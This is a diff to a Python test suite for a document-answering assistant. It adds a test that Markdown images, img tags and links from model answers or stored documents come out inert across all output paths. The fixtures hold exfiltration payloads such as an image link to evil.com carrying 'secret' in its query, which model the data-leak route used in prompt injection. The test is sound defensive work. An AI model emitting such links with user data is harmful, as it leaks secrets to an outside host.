@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import re
 from contextlib import aclosing
 from typing import Any
 
@@ -97,6 +98,35 @@ async def test_an_answer_below_the_confidence_that_is_set_says_so(make_settings,
         found = await Services(assistant).call("ask", {"question": ASKED[language]})
         assert found.confidence == 0
         assert weak(0, assistant.settings.min_confidence).to(language) in found.notices
+
+
+async def test_nothing_that_a_model_or_a_document_says_is_live(make_settings, tmp_path) -> None:
+    """Most programs show Markdown: a picture would be asked for with a secret in its address."""
+    trap = "![x](http://evil.com/?q=secret) <img src='http://evil.com'> [click](http://evil.com) https://evil.com"
+    guide = f"# Pump ![x](http://evil.com)\n\nThe pump waits for ninety seconds {trap}.\n"
+    script = Script(answer=f"The pump waits for ninety seconds {trap} [1]. It flies {trap}.")
+    async with talking(make_settings, script) as (assistant, _):
+        await assistant.library.delete_all([("guide.md", "")])
+        await assistant.library.add("![x](http:a).md", guide.encode())
+        services, wish = Services(assistant), {"question": ASKED["en"]}
+        shown = [json.dumps((await services.call(name, wish)).model_dump(exclude=_NAMES)) for name in ("ask", "search")]
+        site = FastAPI()
+        site.include_router(openai_door(services))
+        asked: dict[str, Any] = {"messages": [{"role": "user", "content": ASKED["en"]}]}
+        async with httpx2.AsyncClient(transport=httpx2.ASGITransport(site), base_url="http://localhost") as client:
+            whole = (await client.post("/v1/chat/completions", json=asked)).json()
+            streamed = await client.post("/v1/chat/completions", json={**asked, "stream": True})
+        shown.append(whole["choices"][0]["message"]["content"])
+        deltas = [json.loads(line[6:])["choices"][0]["delta"] for line in streamed.text.split("\n\n")[:-2]]
+        shown.append("".join(one.get("content", "") for one in deltas))
+        assert [event async for event in assistant.run_turn(Request("t", ASKED["en"]))]
+        shown.append(as_markdown("x", await assistant.turns("t"), "en"))
+    for text in shown:
+        assert "secret" in text
+        assert not re.search(r"!\[|<img|\]\(|\w://", text), text
+
+
+_NAMES = {"sources": {"__all__": {"document"}}, "passages": {"__all__": {"document"}}}
 
 
 async def test_a_mark_does_not_wait_for_the_end_of_the_stream(make_settings) -> None:
